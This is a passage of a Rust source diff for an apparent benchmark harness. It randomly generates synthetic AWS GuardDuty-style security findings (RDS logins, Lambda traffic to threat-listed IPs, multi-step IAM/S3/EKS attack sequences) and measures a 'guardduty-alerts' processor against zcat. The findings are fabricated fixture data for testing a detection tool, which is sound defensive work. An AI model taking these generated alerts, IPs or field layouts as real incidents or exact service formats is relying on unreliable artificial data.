+            "CredentialAccess:RDS/MaliciousIPCaller.FailedLogin",
+            5,
+            false,
+        ),
+        ("Discovery:RDS/TorIPCaller", 5, false),
+    ]);
+    let profile = |rng: &mut Rng, key: &str, value: &str| {
+        json!({
+            key: value,
+            "failedLoginCount": if success { rng.below(5) } else { rng.range(10, 4000) },
+            "successfulLoginCount": u64::from(success) * rng.range(1, 3),
+            "incompleteConnectionCount": rng.below(3),
+        })
+    };
+    let geo_org = GEOS[rng.index(GEOS.len())].asn_org;
+    let additional = additional_info(json!({
+        "unusualBehavior": {
+            "unusualUserNameClusterProfiling": profile(rng, "userName", user),
+            "unusualASNClusterProfiling": profile(rng, "asnOrg", geo_org),
+            "unusualApplicationNameClusterProfiling": profile(rng, "applicationName", "psql"),
+            "unusualDatabaseNameClusterProfiling": profile(rng, "databaseName", "app"),
+        },
+    }));
+    let action = json!({
+        "actionType": "RDS_LOGIN_ATTEMPT",
+        "rdsLoginAttemptAction": {
+            "remoteIpDetails": remote_ip_details(rng, &ip),
+            "loginAttributes": [{
+                "user": user,
+                "application": rng.pick(&["psql", "DBeaver 24.0.1", "mysql", ""]),
+                "failedLoginAttempts": if success { 0 } else { rng.range(10, 4000) },
+                "successfulLoginAttempts": u64::from(success),
+            }],
+        },
+    });
+    Body {
+        kind: kind.to_owned(),
+        severity: severity(rng, base),
+        title: format!(
+            "{} login by {user} observed on RDS instance {db}.",
+            if success {
+                "Unusual successful"
+            } else {
+                "Failed"
+            }
+        ),
+        description: format!(
+            "{} login by {user} from {ip} observed on RDS database instance {db} ({engine} {version}) in account {}. \
+             The source address, its network ({geo_org}) or the client application has not been seen logging \
+             in to this database before; confirm the login with the database owner.",
+            if success {
+                "An unusual successful"
+            } else {
+                "A failed"
+            },
+            cx.account
+        ),
+        resource: json!({
+            "resourceType": "RDSDBInstance",
+            "rdsDbInstanceDetails": {
+                "dbInstanceIdentifier": db,
+                "engine": engine,
+                "engineVersion": version,
+                "dbClusterIdentifier": format!("{db}-cluster"),
+                "dbInstanceArn": format!("arn:aws:rds:{}:{}:db:{db}", cx.region, cx.account),
+                "tags": tags(rng, &db, 4..=9),
+            },
+            "rdsDbUserDetails": { "user": user, "application": "psql", "database": "app", "ssl": "true", "authMethod": "PASSWORD" },
+        }),
+        service: service(cx, "RdsLoginEvents", action, additional, Value::Null),
+    }
+}
+
+fn lambda_network(rng: &mut Rng, cx: &Ctx) -> Body {
+    let function = format!(
+        "{}-{}",
+        APPS[rng.index(APPS.len())],
+        rng.pick(&["handler", "worker", "authorizer", "cron"])
+    );
+    let remote = rng.public_ip();
+    let (kind, base) = rng.pick(&[
+        ("Backdoor:Lambda/C&CActivity.B", 8u64),
+        ("CryptoCurrency:Lambda/BitcoinTool.B", 8),
+        ("Trojan:Lambda/BlackholeTraffic", 5),
+        ("UnauthorizedAccess:Lambda/MaliciousIPCaller.Custom", 5),
+    ]);
+    let role = ROLE_NAMES[rng.index(ROLE_NAMES.len())];
+    let subnets: Vec<String> = (0..rng.range(2, 3))
+        .map(|_| format!("subnet-{}", rng.hex(17)))
+        .collect();
+    let resource = json!({
+        "resourceType": "Lambda",
+        "lambdaDetails": {
+            "functionArn": format!("arn:aws:lambda:{}:{}:function:{function}", cx.region, cx.account),
+            "functionName": function,
+            "description": format!("{function}: handles events for the {} team", TEAMS[rng.index(TEAMS.len())]),
+            "lastModifiedAt": epoch_before(rng, cx.first_seen, 60),
+            "revisionId": format!("{}-{}-{}-{}-{}", rng.hex(8), rng.hex(4), rng.hex(4), rng.hex(4), rng.hex(12)),
+            "functionVersion": "$LATEST",
+            "role": format!("arn:aws:iam::{}:role/{role}", cx.account),
+            "vpcConfig": {
+                "subnetIds": subnets,
+                "vpcId": format!("vpc-{}", rng.hex(17)),
+                "securityGroups": [{ "groupName": format!("{function}-sg"), "groupId": format!("sg-{}", rng.hex(17)) }],
+            },
+            "tags": tags(rng, &function, 5..=10),
+        },
+    });
+    let action = json!({
+        "actionType": "NETWORK_CONNECTION",
+        "networkConnectionAction": {
+            "connectionDirection": "OUTBOUND",
+            "blocked": false,
+            "protocol": "TCP",
+            "localIpDetails": { "ipAddressV4": rng.private_ip() },
+            "localPortDetails": { "port": rng.range(32768, 60999), "portName": "Unknown" },
+            "remotePortDetails": { "port": rng.pick(&[443u64, 80, 3333, 4444, 8080]), "portName": "Unknown" },
+            "remoteIpDetails": remote_ip_details(rng, &remote),
+        },
+    });
+    Body {
+        kind: kind.to_owned(),
+        severity: severity(rng, base),
+        title: format!("Lambda function {function} is communicating with a suspicious IP address."),
+        description: format!(
+            "Lambda function {function} (role {role}) is making outbound connections to {remote}, an address on a \
+             threat list. Review the function's recent deployments and dependencies for injected code, and check \
+             what its role allowed it to read."
+        ),
+        resource,
+        service: service(
+            cx,
+            "LambdaNetworkLogs",
+            action,
+            additional_info(json!({})),
+            threat_intel(rng),
+        ),
+    }
+}
+
+fn attack_sequence(rng: &mut Rng, cx: &Ctx) -> Body {
+    let user = USER_NAMES[rng.index(USER_NAMES.len())];
+    let principal = format!("AIDA{}", rng.upper(17));
+    let ip = rng.public_ip();
+    let geo = &GEOS[rng.index(GEOS.len())];
+    let (kind, what, apis) = rng.pick(&[
+        (
+            "AttackSequence:IAM/CompromisedCredentials",
+            "a possible credential compromise",
+            [
+                "cloudtrail:DeleteTrail",
+                "iam:AttachRolePolicy",
+                "iam:CreateRole",
+                "iam:ListUsers",
+            ],
+        ),
+        (
+            "AttackSequence:S3/CompromisedData",
+            "a possible data compromise of one or more S3 buckets",
+            [
+                "s3:GetObject",
+                "s3:DeleteObject",
+                "s3:PutBucketPublicAccessBlock",
+                "s3:ListBuckets",
+            ],
+        ),
+        (
+            "AttackSequence:EKS/CompromisedCluster",
+            "a possible compromise of an EKS cluster",
+            [
+                "eks:ListClusters",
+                "sts:GetCallerIdentity",
+                "secretsmanager:GetSecretValue",
+                "iam:CreateAccessKey",
+            ],
+        ),
+    ]);
+    let t_ms = cx.first_seen * 1000;
+    let signals: Vec<Value> = (0..rng.range(3, 5))
+        .map(|i| {
+            let signal_kind = rng.pick(&[
+                "Discovery:IAMUser/AnomalousBehavior",
+                "Stealth:IAMUser/CloudTrailLoggingDisabled",
+                "Persistence:IAMUser/AnomalousBehavior",
+                "Exfiltration:S3/AnomalousBehavior",
+                "UnauthorizedAccess:IAMUser/TorIPCaller",
+            ]);
+            let at = t_ms + i64::try_from(i * 600_000 + rng.below(600_000)).expect("fits");
+            json!({
+                "uid": format!("arn:aws:guardduty:{}:{}:detector/{}/finding/{}", cx.region, cx.account, cx.detector, rng.hex(32)),
+                "type": "FINDING",
+                "name": signal_kind,
+                "description": format!("{signal_kind} observed for {user}"),
+                "severity": rng.pick(&[2.0f64, 5.0, 8.0]),
+                "count": rng.range(1, 40),
+                "createdAt": at,
+                "updatedAt": at + 60_000,
+                "firstSeenAt": at - 30_000,
+                "lastSeenAt": at + 30_000,
+                "resourceIds": [format!("arn:aws:iam::{}:user/{user}", cx.account)],
+                "actorIds": [principal],
+                "endpointIds": [ip],
+                "signalIndicators": [{ "key": "ATTACK_TACTIC", "title": "Tactic", "values": ["Discovery", "Persistence"] }],
+            })
+        })
+        .collect();
+    let signal_count = signals.len();
+    let detection = json!({
+        "sequence": {
+            "uid": rng.hex(32),
+            "description": format!("A sequence of actions involving {signal_count} signals indicating {what} was observed for IAMUser/{user}."),
+            "actors": [{
+                "id": principal,
+                "user": { "name": user, "uid": principal, "type": "IAMUser", "account": { "uid": cx.account, "name": format!("{}-prod", TEAMS[rng.index(TEAMS.len())]) } },
+                "session": { "uid": format!("ASIA{}", rng.upper(16)), "mfaStatus": "Disabled", "createdTime": t_ms - 3_600_000, "issuer": format!("arn:aws:iam::{}:user/{user}", cx.account) },
+            }],
+            "resources": [{
+                "uid": format!("arn:aws:iam::{}:user/{user}", cx.account),
+                "name": user,
+                "accountId": cx.account,
+                "resourceType": "IAMUser",
+                "region": cx.region,
+                "service": "iam",
+                "cloudPartition": "aws",
+            }],
+            "endpoints": [{
+                "id": ip,
+                "ip": ip,
+                "location": { "city": geo.city, "country": geo.country, "lat": geo.lat, "lon": geo.lon },
+                "autonomousSystem": { "name": geo.asn_org, "number": geo.asn.parse::<u64>().unwrap_or(0) },
+                "connection": { "direction": "INBOUND" },
+            }],
+            "signals": signals,
+            "sequenceIndicators": [
+                { "key": "ATTACK_TACTIC", "values": ["Persistence", "Privilege Escalation", "Defense Evasion", "Discovery", "Initial Access"] },
+                { "key": "ATTACK_TECHNIQUE", "values": ["T1562.008 - Impair Defenses: Disable or Modify Cloud Logs", "T1098.003 - Account Manipulation: Additional Cloud Roles", "T1078.004 - Valid Accounts: Cloud Accounts"] },
+                { "key": "HIGH_RISK_API", "values": apis },
+            ],
+        },
+    });
+    let service = with(
+        service(cx, "Correlation", json!({}), json!({}), Value::Null),
+        "detection",
+        detection,
+    );
+    Body {
+        kind: kind.to_owned(),
+        severity: if rng.chance(50) {
+            json!(9)
+        } else {
+            json!(rng.pick(&[9.0f64, 9.4, 10.0]))
+        },
+        title: format!(
+            "Potential {} indicated by a sequence of actions associated with IAMUser/{user}.",
+            &what[11..]
+        ),
+        description: format!(
+            "A sequence of actions involving {signal_count} signals indicating {what} was observed for IAMUser/{user} \
+             with principalId {principal} in account {}\nbetween eventFirstSeen and eventLastSeen with the following \
+             behaviors:\n  - 5 MITRE ATT&CK tactics observed: Persistence, Privilege Escalation, Defense Evasion, \
+             Discovery, Initial Access\n  - Connected from {ip} ({}, {})\n  - {} sensitive APIs called: {}\n",
+            cx.account,
+            geo.city,
+            geo.country,
+            apis.len(),
+            apis.join(", ")
+        ),
+        resource: json!({ "resourceType": "AttackSequence" }),
+        service,
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// Running the tools
+// ---------------------------------------------------------------------------------------------
+
+/// One measured run of a child process.
+struct Run {
+    wall: Duration,
+    /// Peak resident set size of the child, in bytes.
+    peak_rss: u64,
+    /// Our binary's summary line (absent for `zcat`).
+    summary: Option<Summary>,
+}
+
+/// The one-line JSON summary our binary prints last on stderr.
+struct Summary {
+    findings: u64,
+    alerts: u64,
+    decompressed_bytes: u64,
+    elapsed_ms: f64,
+}
+
+fn run_zcat(export: &Path) -> Run {
+    let mut command = Command::new("zcat");
+    command
+        .arg(export)
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::inherit());
+    let (wall, peak_rss, status, _) = measure(&mut command, "zcat", false);
+    if let Err(why) = status {
+        panic!("zcat {} failed: {why}", export.display());
+    }
+    Run {
+        wall,
+        peak_rss,
+        summary: None,
+    }
+}
+
+fn run_ours(export: &Path, extra_args: &[String]) -> Run {
+    let mut command = Command::new(BIN);
+    command
+        .args(["process", "--format", "json"])
+        .arg(export)
+        .args(extra_args)
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::piped());
+    let (wall, peak_rss, status, stderr) = measure(&mut command, BIN, true);
+    if let Err(why) = status {
+        panic!(
+            "{BIN} process --format json {} {} failed: {why}\nlast stderr output:\n{stderr}",
+            export.display(),
+            extra_args.join(" ")
+        );
+    }
+    let summary = parse_summary(&stderr);
+    Run {
+        wall,
+        peak_rss,
+        summary: Some(summary),
+    }
+}
+
+/// Spawns `command`, reaps it with `wait4(2)`, and returns its wall time (spawn to reap), peak
+/// RSS in bytes, exit status (`Err` with a description unless it exited 0), and the tail of its
+/// stderr when `capture_stderr` (the command must then have a piped stderr).
+fn measure(
+    command: &mut Command,
+    name: &str,
+    capture_stderr: bool,
+) -> (Duration, u64, Result<(), String>, String) {
+    let started = Instant::now();
+    let mut child: Child = command
+        .spawn()
+        .unwrap_or_else(|e| panic!("cannot start {name}: {e}"));
+    // Drain stderr on another thread so that a chatty child never blocks on a full pipe.
+    let stderr_reader = capture_stderr.then(|| {
+        let mut stderr = child.stderr.take().expect("stderr was configured as piped");
+        thread::spawn(move || read_tail(&mut stderr))
+    });
+    let pid = libc::pid_t::try_from(child.id()).expect("a process id fits in pid_t");
+
+    let mut status: libc::c_int = 0;
+    // SAFETY: `rusage` is plain old data, for which all-zero bytes are a valid value.
+    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
+    loop {
+        // SAFETY: `pid` is our own child, not reaped yet (`Child::wait` is never called for it);
+        // `status` and `usage` are valid for writes for the duration of the call.
+        let reaped = unsafe { libc::wait4(pid, &mut status, 0, &mut usage) };
+        if reaped == pid {
+            break;
+        }
+        let error = std::io::Error::last_os_error();
+        if error.kind() != std::io::ErrorKind::Interrupted {
+            panic!("wait4 for {name} (pid {pid}) failed: {error}");
+        }
+    }
+    let wall = started.elapsed();
+    drop(child);
+
+    let outcome = if libc::WIFEXITED(status) && libc::WEXITSTATUS(status) == 0 {
+        Ok(())
+    } else if libc::WIFEXITED(status) {
+        Err(format!("exit status {}", libc::WEXITSTATUS(status)))
+    } else if libc::WIFSIGNALED(status) {
+        Err(format!("killed by signal {}", libc::WTERMSIG(status)))
+    } else {
+        Err(format!("unexpected wait status {status:#x}"))
+    };
+    let stderr = stderr_reader
+        .map(|reader| reader.join().expect("the stderr reader thread panicked"))
+        .unwrap_or_default();
+    // ru_maxrss is in KiB on Linux.
+    let peak_rss = u64::try_from(usage.ru_maxrss).unwrap_or(0) * 1024;
+    (wall, peak_rss, outcome, stderr)
+}
+
+/// Reads `source` to its end, keeping only the last [`STDERR_TAIL_BYTES`] bytes.
+fn read_tail(source: &mut impl Read) -> String {
+    let mut tail: VecDeque<u8> = VecDeque::with_capacity(STDERR_TAIL_BYTES);
+    let mut buf = [0u8; 8192];
+    loop {
+        match source.read(&mut buf) {
+            Ok(0) => break,
+            Ok(n) => {
+                tail.extend(&buf[..n]);
+                let excess = tail.len().saturating_sub(STDERR_TAIL_BYTES);
+                tail.drain(..excess);
+            }
+            Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
+            Err(e) => {
+                let _ = write!(String::new(), "{e}");
+                break;
+            }
+        }
+    }
+    String::from_utf8_lossy(tail.make_contiguous()).into_owned()
+}
+
+/// The summary on the last non-blank line of our binary's stderr.
+fn parse_summary(stderr: &str) -> Summary {
+    let line = stderr
+        .lines()
+        .rev()
+        .find(|line| !line.trim().is_empty())
+        .unwrap_or_else(|| panic!("{BIN} printed nothing on stderr; expected a JSON summary line"));
+    let value: Value = serde_json::from_str(line).unwrap_or_else(|e| {
+        panic!("the last stderr line of {BIN} is not a JSON summary ({e}):\n{line}")
+    });
+    let field = |key: &str| {
+        value
+            .get(key)
+            .and_then(Value::as_f64)
+            .unwrap_or_else(|| panic!("the JSON summary of {BIN} has no numeric `{key}`:\n{line}"))
+    };
+    let whole = |key: &str| {
+        value.get(key).and_then(Value::as_u64).unwrap_or_else(|| {
+            panic!("the JSON summary of {BIN} has no whole-number `{key}`:\n{line}")
+        })
+    };
+    Summary {
+        findings: whole("findings"),
+        alerts: whole("alerts"),
+        decompressed_bytes: whole("decompressed_bytes"),
+        elapsed_ms: field("elapsed_ms"),
+    }
+}
+
+/// Panics unless our binary saw exactly the export that was generated.
+fn check_summary(run: &Run, meta: &ExportMeta) {
+    let summary = run.summary.as_ref().expect("our runs carry a summary");
+    assert_eq!(
+        summary.findings, meta.findings,
+        "{BIN} reported {} findings, but the export holds {}",
+        summary.findings, meta.findings
+    );
+    assert_eq!(
+        summary.decompressed_bytes, meta.decompressed_bytes,
+        "{BIN} reported {} decompressed bytes, but the export decompresses to {}",
+        summary.decompressed_bytes, meta.decompressed_bytes
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// Reporting
+// ---------------------------------------------------------------------------------------------
+
+/// Bytes to MB (10^6 bytes).
+fn mb(bytes: u64) -> f64 {
+    bytes as f64 / 1e6
+}
+
+fn median(mut values: Vec<f64>) -> f64 {
+    values.sort_by(f64::total_cmp);
+    let mid = values.len() / 2;
+    if values.len() % 2 == 1 {
+        values[mid]
+    } else {
+        (values[mid - 1] + values[mid]) / 2.0
+    }
+}
+
+fn print_run(round: u64, rounds: u64, tool: &str, run: &Run, meta: &ExportMeta) {
+    let secs = run.wall.as_secs_f64();
+    let mut line = format!(
+        "round {round}/{rounds}  {tool:<17} {secs:>8.3} s  {:>8.1} MB/s  peak RSS {:>7.1} MB",
+        mb(meta.decompressed_bytes) / secs,
+        mb(run.peak_rss),
+    );
+    if let Some(summary) = &run.summary {
+        let _ = write!(
+            line,
+            "  ({} alerts, {:.0} ms by its own clock)",
+            summary.alerts, summary.elapsed_ms
+        );
+    }
+    println!("{line}");
+}
+
+/// Median and best wall time, throughput and median peak RSS of one tool.
+struct Stats {
+    median_s: f64,
+    min_s: f64,
+    median_rss: f64,
+    max_rss: f64,
+}
+
+impl Stats {
+    fn of(runs: &[Run]) -> Self {
+        let secs: Vec<f64> = runs.iter().map(|run| run.wall.as_secs_f64()).collect();
+        let rss: Vec<f64> = runs.iter().map(|run| run.peak_rss as f64).collect();
+        Self {
+            median_s: median(secs.clone()),
+            min_s: secs.iter().copied().fold(f64::INFINITY, f64::min),
+            median_rss: median(rss.clone()),
+            max_rss: rss.iter().copied().fold(0.0, f64::max),
+        }
+    }
+}
+
+fn report(zcat_runs: &[Run], our_runs: &[Run], meta: &ExportMeta) {
+    let zcat = Stats::of(zcat_runs);
+    let ours = Stats::of(our_runs);
+    let decompressed_mb = mb(meta.decompressed_bytes);
+    let findings = meta.findings as f64;
+
+    println!();
+    println!(
+        "{:<18} {:>10} {:>9} {:>13} {:>14} {:>15}",
+        "tool", "median s", "min s", "MB/s (med)", "findings/s", "peak RSS MB"
+    );
+    for (tool, stats) in [("zcat", &zcat), ("guardduty-alerts", &ours)] {
+        println!(
+            "{tool:<18} {:>10.3} {:>9.3} {:>13.1} {:>14.0} {:>15.1}",
+            stats.median_s,
+            stats.min_s,
+            decompressed_mb / stats.median_s,
+            findings / stats.median_s,
+            stats.median_rss / 1e6,
+        );
+    }
+
+    let speedup = zcat.median_s / ours.median_s;
+    let verdict = |met: bool| if met { "MET" } else { "NOT MET" };
+    println!();
+    println!(
+        "guardduty-alerts is {speedup:.2}x faster than zcat (median wall time; target >= {TARGET_SPEEDUP}x): {}",
+        verdict(speedup >= TARGET_SPEEDUP)
+    );
+    println!(
+        "guardduty-alerts peak RSS {:.1} MB (highest of {} runs; target <= {:.0} MB): {}",
+        ours.max_rss / 1e6,
+        our_runs.len(),
+        TARGET_RSS_BYTES / 1e6,
+        verdict(ours.max_rss <= TARGET_RSS_BYTES)
+    );
+    println!(
+        "(N = {} findings, {:.1} MB decompressed; {} CPUs available)",
+        meta.findings,
+        decompressed_mb,
+        thread::available_parallelism().map_or(0, std::num::NonZero::get)
+    );
+}
